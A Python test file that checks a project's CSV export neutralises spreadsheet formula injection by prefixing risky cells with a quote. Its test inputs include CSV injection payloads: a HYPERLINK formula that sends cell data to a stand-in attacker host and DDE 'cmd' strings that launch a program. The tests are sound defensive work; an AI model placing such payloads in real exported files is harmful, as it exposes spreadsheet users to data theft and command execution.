"""Every CSV Kaskad writes is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest

from api.csv_export import csv_lines, csv_safe_cell
from tests.factories import CustomerFactory, SegmentFactory, SegmentMembershipFactory


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert csv_safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Anna", "+79161234567", "-5", "-12.50", "a=b", "", None, 42, "anna@example.com"]
)
def test_text_and_plain_numbers_are_left_as_they_are(value):
    assert csv_safe_cell(value) == value


def test_csv_lines_quote_every_row_including_the_header():
    lines = list(csv_lines([["=title", "ok"], ["Anna", "@x"]]))
    assert list(csv.reader(io.StringIO("".join(lines)))) == [["'=title", "ok"], ["Anna", "'@x"]]


@pytest.mark.django_db
def test_the_segment_members_csv_neutralises_formulas_and_keeps_phones(api):
    customer = CustomerFactory(
        external_id="crm-1",
        first_name='=HYPERLINK("http://evil.example","Click")',
        last_name="@SUM(A1)",
        phone="+79161234567",
    )
    segment = SegmentFactory(kind="static", rules=None)
    SegmentMembershipFactory(segment=segment, customer=customer)
    response = api.get(f"/api/v1/segments/{segment.pk}/members.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["first_name"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert cells["last_name"] == "'@SUM(A1)"
    assert cells["phone"] == "+79161234567"
    assert cells["external_id"] == "crm-1"
